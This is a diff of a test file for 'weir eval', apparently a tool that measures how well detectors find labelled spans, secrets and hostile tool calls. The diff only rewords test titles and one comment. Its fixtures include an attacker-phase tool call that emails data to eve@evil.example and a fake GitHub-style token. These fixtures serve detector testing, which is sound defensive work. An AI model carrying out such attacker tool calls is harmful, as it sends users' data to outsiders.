@@ -21,7 +21,7 @@ describe('weir eval', () => {
   afterEach(() => rm(folder, { recursive: true }));
   const weir = (...argv: readonly string[]) => runOnLetters(argv, { cwd: folder });
 
-  it('prints a row per code and the sum', async () => {
+  it('prints a row per code and a total', async () => {
     const { exit, stdout, stderr } = await weir('eval', 'corpus.jsonl', '--ignore-weak', '0.4');
     expect(exit).toBe(0);
     expect(stdout.split('\n')[0]).toMatch(/^code +labelled +found +missed +false +precision +recall +F1 +false\/MB$/);
@@ -31,7 +31,7 @@ describe('weir eval', () => {
     expect(stderr).toBe('exit 0: 6 texts, F1 50.0 % over 2 spans\n');
   });
 
-  it('gives the same as one JSON object', async () => {
+  it('prints the same as one JSON object', async () => {
     const { stdout } = await weir('eval', 'corpus.jsonl', '--json');
     expect(JSON.parse(stdout)).toMatchObject({
       schemaVersion: 1,
@@ -42,7 +42,7 @@ describe('weir eval', () => {
     });
   });
 
-  it('writes a page with what was taken for what, without the words', async () => {
+  it('writes a page with the confusion matrix and without the texts', async () => {
     await weir('eval', 'corpus.jsonl', '--html', 'page.html');
     const page = await readFile(join(folder, 'page.html'), 'utf8');
     expect(page).toContain('<td>missed</td><td><code>X</code></td><td class="text">missed</td><td>1</td><td>4</td>');
@@ -51,12 +51,12 @@ describe('weir eval', () => {
     expect(page).not.toContain('<script');
   });
 
-  it('shows the words of the misses in the page when it is asked to, escaped', async () => {
+  it('writes the escaped texts of the misses into the page with --show-content', async () => {
     await weir('eval', 'corpus.jsonl', '--html', 'page.html', '--show-content');
     expect(await readFile(join(folder, 'page.html'), 'utf8')).toContain('<code>&#60;b&#62;</code>');
   });
 
-  it('counts findings under the name that the labels use', async () => {
+  it('renames findings to the codes of the labels', async () => {
     await writeFile(join(folder, 'other.jsonl'), '{"text":"x","spans":[{"start":0,"end":1,"code":"LETTER"}]}\n');
     for (const as of ['some-letters=LETTER', 'some-letters/X=LETTER']) {
       const { stdout } = await weir('eval', 'other.jsonl', '--as', as, '--json');
@@ -64,7 +64,7 @@ describe('weir eval', () => {
     }
   });
 
-  it('judges lists of tool calls by the rule of tool-use, and those of an attack by the attacker’s calls', async () => {
+  it('judges lists of tool calls by the rule of tool-use; in an attack, only the calls of the attacker count', async () => {
     const calls = [
       { name: 'read_inbox', args: {}, phase: 'user' },
       { name: 'send_email', args: { to: 'eve@evil.example' }, phase: 'attacker' },
@@ -75,7 +75,7 @@ describe('weir eval', () => {
       { id: 'harmless', context, calls: [{ name: 'read_inbox', args: null }], label: 'benign' },
     ];
     await writeFile(join(folder, 'tools.jsonl'), lines.map((line) => `${JSON.stringify(line)}\n`).join(''));
-    // Without the plugin tool-use there is nothing to judge by, and that is said.
+    // Without the plugin tool-use there is no rule for tool calls, and the error says so.
     expect((await weir('eval', 'tools.jsonl')).stderr).toContain('name one with --config');
     const shipped = await runWeir(['eval', 'tools.jsonl', '--json'], { cwd: folder });
     expect(JSON.parse(shipped.stdout)).toMatchObject({
@@ -83,20 +83,20 @@ describe('weir eval', () => {
     });
   });
 
-  it('says which line of a list of tool calls is wrong', async () => {
+  it('names the malformed line of a list of tool calls', async () => {
     await writeFile(join(folder, 'tools.jsonl'), '{"calls":[{"args":{}}]}\n');
     const { exit, stderr } = await runWeir(['eval', 'tools.jsonl'], { cwd: folder });
     expect(exit).toBe(2);
     expect(stderr).toContain('line 1 of tools.jsonl is not a labelled list of tool calls: "calls.0.name" is missing');
   });
 
-  it('does not count a text that was called harmless for one foreign detector only', async () => {
+  it('ignores a text that is labelled harmless for one foreign detector only', async () => {
     await writeFile(join(folder, 'other.jsonl'), '{"text":"x","spans":[],"has":false,"neg_scope":"detector:a"}\n');
     const { stdout } = await weir('eval', 'other.jsonl', '--json');
     expect(JSON.parse(stdout)).toMatchObject({ texts: 1, codes: [], records: null });
   });
 
-  it('takes the label SECRET for every code of a detector of credentials', async () => {
+  it('matches the label SECRET with every code of a credential detector', async () => {
     const text = `token ${'ghp_'}wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx`;
     const line = { text, spans: [{ start: 6, end: text.length, type: 'SECRET' }], scope: ['SECRET'], has: true };
     await writeFile(join(folder, 'secrets.jsonl'), `${JSON.stringify(line)}\n`);
@@ -104,18 +104,18 @@ describe('weir eval', () => {
     expect(JSON.parse(stdout)).toMatchObject({ codes: [{ code: 'SECRET', truePositives: 1, falsePositives: 0 }] });
   });
 
-  it('exits 1 below a wanted F1', async () => {
+  it('exits 1 below the minimum F1', async () => {
     const { exit, stderr } = await weir('eval', 'corpus.jsonl', '--min-f1', '0.9');
     expect(exit).toBe(1);
     expect(stderr).toContain('below 90.0 %');
   });
 
-  it('exits 7 when there is nothing to measure', async () => {
+  it('exits 7 for an empty corpus', async () => {
     await writeFile(join(folder, 'empty.jsonl'), '');
     expect((await weir('eval', 'empty.jsonl')).exit).toBe(7);
   });
 
-  it('exits 4 when a detector could not answer', async () => {
+  it('exits 4 if a detector failed', async () => {
     await writeFile(join(folder, 'broken.jsonl'), '{"text":"Z"}\n');
     expect((await weir('eval', 'broken.jsonl')).exit).toBe(4);
   });
@@ -124,7 +124,7 @@ describe('weir eval', () => {
     ['{"text":"a","spans":[{"start":0,"end":9,"code":"X"}]}', '"spans.0.end" is missing or wrong'],
     ['{"text":"a","spans":[{"start":0,"end":1}]}', '"spans.0.code" is missing or wrong'],
     ['{"text":3}', '"text" is missing or wrong'],
-  ])('names the line and the field of a label that cannot be: %s', async (line, why) => {
+  ])('names the line and the field of an invalid label: %s', async (line, why) => {
     await writeFile(join(folder, 'bad.jsonl'), line);
     const { exit, stderr } = await weir('eval', 'bad.jsonl');
     expect(exit).toBe(2);
